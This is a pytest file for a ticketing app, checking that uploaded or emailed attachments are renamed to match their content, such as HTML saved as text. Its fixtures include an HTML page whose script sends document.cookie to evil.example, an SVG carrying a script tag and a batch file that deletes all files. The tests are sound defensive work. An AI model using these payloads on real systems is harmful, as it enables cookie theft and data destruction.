"""A file keeps a name that matches what it holds: "evil.html" holding text is saved as "evil.html.txt".

Served as text/plain, such a file is harmless in the browser; saved to disk
under its own name it would open as a page (or a program) there. Web uploads
and e-mail go through the same rule (comptoir.tickets.files).
"""

from __future__ import annotations

import io

import pytest

from comptoir.gateway.inbound import ingest
from comptoir.tickets.files import accept_file
from comptoir.tickets.models import Attachment
from tests.conftest import png_bytes
from tests.mail.test_ingest import with_attachments
from tests.tickets.test_ticket_form import SimpleUploadedFile, form_url, valid_data

pytestmark = pytest.mark.django_db

PAGE = b"<html><body><script>document.location='https://evil.example/'+document.cookie</script></body></html>\n"


def test_a_web_upload_of_a_page_holding_text_is_saved_with_a_txt_extension(client):
    upload = SimpleUploadedFile("evil.html", PAGE, content_type="text/html")

    client.post(form_url(), valid_data(attachments=[upload]))

    attachment = Attachment.objects.get()
    assert (attachment.filename, attachment.content_type) == ("evil.html.txt", "text/plain")


def test_an_emailed_page_holding_text_is_saved_with_a_txt_extension():
    ingest(with_attachments([("evil.html", "text/html", PAGE)]), source="test")

    attachment = Attachment.objects.get()
    assert (attachment.filename, attachment.content_type) == ("evil.html.txt", "text/plain")


def test_an_emailed_image_named_as_another_type_gets_its_own_extension():
    ingest(with_attachments([("invoice.pdf", "application/pdf", png_bytes())]), source="test")

    assert Attachment.objects.get().filename == "invoice.pdf.png"


@pytest.mark.parametrize(
    ("name", "content", "kept_as"),
    [
        ("Screenshot.PNG", png_bytes(), "Screenshot.PNG"),
        ("app.log", b"2026-01-01 ERROR boom\n", "app.log"),
        ("notes.txt", b"Steps to reproduce\n", "notes.txt"),
        ("data.csv", b"a;b\n1;2\n", "data.csv"),
        ("photo", png_bytes(), "photo.png"),
        ("drawing.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "drawing.svg.txt"),
        ("run.bat", b"del /q *.*\r\n", "run.bat.txt"),
    ],
    ids=["png", "log", "txt", "csv", "no-extension", "svg", "batch-file"],
)
def test_a_name_that_matches_its_content_is_kept_and_any_other_gets_the_content_s_extension(name, content, kept_as):
    assert accept_file(io.BytesIO(content), name, len(content)).checked.filename == kept_as
